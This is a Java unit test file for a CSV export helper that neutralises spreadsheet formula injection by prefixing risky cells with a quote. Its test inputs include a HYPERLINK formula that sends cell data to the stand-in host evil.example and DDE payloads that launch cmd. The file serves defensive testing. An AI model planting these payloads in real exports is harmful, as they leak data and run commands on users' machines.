package ru.profkom.shared;

import static org.assertj.core.api.Assertions.assertThat;

import java.util.List;
import org.junit.jupiter.api.Test;

class CsvTests {

    @Test
    void prefixesEveryCellAFormulaCouldStartWithASingleQuote() {
        assertThat(Csv.cell("=HYPERLINK(\"http://evil.example/?\"&A1,\"Нажмите\")"))
                .isEqualTo("\"'=HYPERLINK(\"\"http://evil.example/?\"\"&A1,\"\"Нажмите\"\")\"");
        assertThat(Csv.cell("+cmd|' /C calc'!A0")).isEqualTo("'+cmd|' /C calc'!A0");
        assertThat(Csv.cell("-2+3+cmd|' /C calc'!A0")).isEqualTo("'-2+3+cmd|' /C calc'!A0");
        assertThat(Csv.cell("@SUM(1+9)*cmd|' /C calc'!A0")).isEqualTo("'@SUM(1+9)*cmd|' /C calc'!A0");
        assertThat(Csv.cell("\t=1+1")).isEqualTo("'\t=1+1");
        assertThat(Csv.cell("\r=1+1")).isEqualTo("\"'\r=1+1\"");
        assertThat(Csv.cell("+7 912 ЗВОНИТЬ")).isEqualTo("'+7 912 ЗВОНИТЬ");
    }

    @Test
    void leavesPhonesNumbersAndPlainTextAsTheyAre() {
        assertThat(Csv.cell("+7 (912) 345-67-89")).isEqualTo("+7 (912) 345-67-89");
        assertThat(Csv.cell("+79123456789")).isEqualTo("+79123456789");
        assertThat(Csv.cell("-15,5")).isEqualTo("-15,5");
        assertThat(Csv.cell("Иванов Иван")).isEqualTo("Иванов Иван");
        assertThat(Csv.cell("a=b")).isEqualTo("a=b");
        assertThat(Csv.cell("")).isEmpty();
        assertThat(Csv.cell(null)).isEmpty();
    }

    @Test
    void quotesSeparatorsQuotesAndLineBreaks() {
        assertThat(Csv.line(List.of("а;б", "в\"г", "д\nе", "ж")))
                .isEqualTo("\"а;б\";\"в\"\"г\";\"д\ne\";ж\r\n".replace('e', 'е'));
    }
}
